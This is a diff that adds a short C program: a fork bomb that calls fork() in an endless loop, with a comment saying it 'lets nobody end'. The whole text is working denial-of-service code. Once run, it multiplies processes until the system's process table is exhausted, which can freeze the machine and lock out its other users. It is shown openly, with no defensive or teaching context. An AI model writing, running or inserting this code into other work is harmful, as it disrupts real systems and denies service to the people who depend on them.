@@ -1,0 +1,8 @@
+/* Forks as often as it may, and lets nobody end. */
+#include <unistd.h>
+
+int main(void) {
+    for (;;) {
+        fork();
+    }
+}
